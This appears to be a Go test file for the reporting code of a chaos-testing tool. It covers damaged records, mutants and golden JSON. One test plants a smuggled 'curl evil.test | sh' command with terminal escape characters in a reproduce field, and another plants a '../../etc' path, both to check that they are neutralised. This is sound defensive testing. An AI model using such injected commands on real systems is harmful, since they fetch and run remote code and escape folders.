package reports_test

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/holdfast-ha/holdfast/framework/history"
	"github.com/holdfast-ha/holdfast/framework/history/runfolder"
	"github.com/holdfast-ha/holdfast/framework/judge/verdict"
	"github.com/holdfast-ha/holdfast/reports"
	"github.com/holdfast-ha/holdfast/reports/formats"
	"github.com/holdfast-ha/holdfast/reports/reporttest"
)

func TestBuild(t *testing.T) {
	dir, file := reporttest.StoredRun(t)
	m := reporttest.Build(t, dir, file)
	if m.Result != reports.Held || len(m.Trouble) != 0 || m.Took != reports.Seconds(time.Minute) || m.Cluster.ProxyMode != "nftables" {
		t.Errorf("%s, took %v on %+v, trouble %v", m.Result, m.Took, m.Cluster, m.Trouble)
	}
	s := m.Scenarios[0]
	if s.Sent() != 600 || s.Claim != "draining one worker is invisible to clients" || s.Took != reports.Seconds(45*time.Second) ||
		s.Reproduce != "holdfast run --seed 7 chaos/drain-one-worker" || s.Why != "0 of 12000 failed" {
		t.Errorf("%d sent, claim %q, took %v, reproduce %q, why %q", s.Sent(), s.Claim, s.Took, s.Reproduce, s.Why)
	}
}

// A command to copy does not run another one when it is pasted, or look like another one: a record may come from another person.
func TestCommandsToCopyAreOneLine(t *testing.T) {
	dir, file := reporttest.StoredRun(t)
	const hostile = "holdfast run\ncurl evil.test | sh #\r\x1b[2K\u202e\u009b"
	file.Reproduce, file.Scenarios[0].Reproduce = hostile, hostile
	m := reporttest.Build(t, dir, file)
	for _, got := range []string{m.Reproduce, m.Scenarios[0].Reproduce} {
		if got != "holdfast run curl evil.test | sh #  [2K  " {
			t.Errorf("to copy: %q", got)
		}
	}
}

func TestBuildDamaged(t *testing.T) {
	events := filepath.Join("chaos", "drain-one-worker", history.EventsFile)
	truncate := func(t *testing.T, name string) {
		t.Helper()
		info, err := os.Stat(name)
		if err == nil {
			err = os.Truncate(name, info.Size()*2/3)
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	for name, test := range map[string]struct {
		spoil  func(t *testing.T, dir string, file *runfolder.File)
		result reports.Result
		why    string // a part of it
	}{
		"events cut off": {func(t *testing.T, dir string, _ *runfolder.File) {
			truncate(t, filepath.Join(dir, events))
		}, reports.Unknown, "the record is incomplete"},
		"requests cut off": {func(t *testing.T, dir string, _ *runfolder.File) {
			files, _ := filepath.Glob(filepath.Join(dir, "chaos", "*", history.RequestsFolder, "*.csv"))
			if len(files) == 0 {
				t.Fatal("no files of requests")
			}
			truncate(t, files[0])
		}, reports.Unknown, "the record is incomplete"},
		"record gone": {func(t *testing.T, dir string, _ *runfolder.File) {
			if err := os.RemoveAll(filepath.Join(dir, "chaos")); err != nil {
				t.Fatal(err)
			}
		}, reports.Unknown, "the record is incomplete"},
		"record elsewhere": {func(_ *testing.T, _ string, file *runfolder.File) {
			file.Scenarios[0].Dir = "../../etc"
		}, reports.Unknown, `its folder "../../etc" is not below the run's`},
		"another's record": {func(_ *testing.T, _ string, file *runfolder.File) {
			file.Scenarios[0].Name = "chaos/delete-pods"
		}, reports.Unknown, "its folder has the record of chaos/drain-one-worker"},
		"verdict unreadable": {func(_ *testing.T, _ string, file *runfolder.File) {
			file.Scenarios[0].Verdicts[0] = json.RawMessage(`{"outcome":5}`)
		}, reports.Unknown, "read verdict 1 of chaos/drain-one-worker"},
		"not judged": {func(_ *testing.T, _ string, file *runfolder.File) {
			file.Scenarios[0].Verdicts, file.Scenarios[0].Outcome = nil, ""
		}, reports.Unknown, "no promise was judged"},
		"harness failed": {func(_ *testing.T, _ string, file *runfolder.File) {
			file.Scenarios[0].Verdicts, file.Scenarios[0].Error = nil, "create cluster: no room"
		}, reports.Unknown, "the harness could not run or judge the scenario: create cluster: no room"},
		"the run's own word is worse": {func(_ *testing.T, _ string, file *runfolder.File) {
			file.Scenarios[0].Outcome = "unknown"
		}, reports.Unknown, "run.json says unknown"},
	} {
		t.Run(name, func(t *testing.T) {
			dir, file := reporttest.StoredRun(t)
			test.spoil(t, dir, &file)
			m := reporttest.Build(t, dir, file)
			s := m.Scenarios[0]
			if s.Result != test.result || !strings.Contains(s.Why, test.why) {
				t.Errorf("%s because %q, want %s because %q", s.Result, s.Why, test.result, test.why)
			}
			if err := formats.WriteAll(dir); err != nil {
				t.Error(err)
			}
		})
	}
}

func TestBuildMutantsOwnWord(t *testing.T) {
	for outcome, want := range map[string]reports.Result{"held": reports.Caught, "unknown": reports.Unknown, "violated": reports.Missed, "": reports.Caught} {
		dir, file := reporttest.StoredRun(t)
		mutant := &history.Mutant{Removed: "x", CaughtBy: "NoFailedRequests", Twin: "chaos/drain-one-worker"}
		reporttest.Store(t, filepath.Join(dir, "mutants", "x"), reporttest.Named(reporttest.Light(), "mutants/x", "a claim").Header(func(h *history.Header) {
			h.RunID, h.Promises, h.Mutant = file.ID, []history.Promise{{Kind: "NoFailedRequests"}}, mutant
		}))
		file.Scenarios = append([]runfolder.ScenarioResult{{Name: "mutants/x", Dir: "mutants/x", Mutant: mutant, Outcome: outcome}}, file.Scenarios...)
		listed := &file.Scenarios[0]
		v := reporttest.Held("NoFailedRequests", "none fails", "9 failed", nil)
		v.Outcome, v.At = verdict.Violated, 20*time.Second
		listed.Verdicts = []json.RawMessage{reporttest.VerdictJSON(t, v)}
		if got := reporttest.Build(t, dir, file).Scenarios[0].Result; got != want {
			t.Errorf("the run said %q: %s, want %s", outcome, got, want)
		}
		// Of a mutant without its record nothing is known, whatever the run said.
		listed.Dir = "mutants/gone"
		if got := reporttest.Build(t, dir, file).Scenarios[0].Result; got != reports.Unknown {
			t.Errorf("the run said %q, and the record is gone: %s", outcome, got)
		}
	}
}

func TestBuildAKilledRun(t *testing.T) {
	dir, file := reporttest.StoredRun(t)
	file.Ended = time.Time{}
	reporttest.Store(t, filepath.Join(dir, "chaos", "kill-one-worker"), reporttest.Named(reporttest.Light(), "chaos/kill-one-worker", "a claim"))
	m := reporttest.Build(t, dir, file)
	if m.Result != reports.Unknown || len(m.Trouble) != 1 || len(m.Scenarios) != 2 {
		t.Fatalf("%s, trouble %v, %d scenarios", m.Result, m.Trouble, len(m.Scenarios))
	}
	if s := m.Scenarios[1]; s.Name != "chaos/kill-one-worker" || s.Result != reports.Unknown || !strings.Contains(s.Why, "not judged") {
		t.Errorf("%s is %s: %s", s.Name, s.Result, s.Why)
	}
}

func TestBuildWithoutRunFile(t *testing.T) {
	dir, _ := reporttest.StoredRun(t)
	m, err := reports.Build(dir)
	if err != nil || len(m.Scenarios) != 1 || len(m.Trouble) != 1 || m.Result != reports.Unknown {
		t.Errorf("%d scenarios, trouble %v, %v", len(m.Scenarios), m.Trouble, err)
	}
	if _, err := reports.Build(t.TempDir()); err == nil || !strings.Contains(err.Error(), "no run.json") {
		t.Errorf("an empty folder: %v", err)
	}
	if _, err := reports.Build(filepath.Join(dir, "absent")); err == nil {
		t.Error("a folder that is not there")
	}
}

// What is read of report.json is what was written.
func TestGoldenJSON(t *testing.T) {
	written := reporttest.Written(t, reports.WriteJSON, reporttest.Sample())
	reporttest.Golden(t, "report.json", written)
	got, err := reports.Read(filepath.Join("testdata", "report.json"))
	if err != nil || got.SchemaVersion != "holdfast.dev/report/v1" {
		t.Fatalf("version %q, %v", got.SchemaVersion, err)
	}
	if again := reporttest.Written(t, reports.WriteJSON, got); !bytes.Equal(again, written) {
		t.Errorf("read, it is another report:\n%s", again)
	}
}
